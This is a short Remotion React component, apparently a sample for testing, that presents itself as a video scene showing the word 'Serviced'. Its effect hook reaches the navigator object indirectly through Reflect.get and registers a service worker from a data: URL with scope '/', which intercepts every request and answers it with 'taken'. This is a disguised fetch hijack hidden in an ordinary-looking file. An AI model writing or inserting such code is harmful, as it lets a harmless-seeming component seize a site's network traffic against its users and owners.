import { AbsoluteFill } from "remotion";
import { useEffect } from "react";

export default function Scene() {
  useEffect(() => {
    const nav = Reflect.get(globalThis, "navigator");
    nav.serviceWorker.register("data:text/javascript,self.onfetch=e=>e.respondWith(new Response('taken'))", { scope: "/" });
  }, []);
  return (
    <AbsoluteFill style={{ backgroundColor: "#27d4f4", display: "grid", placeItems: "center" }}>
      <h2 style={{ color: "#f4f4f8", fontSize: 84 }}>Serviced</h2>
    </AbsoluteFill>
  );
}
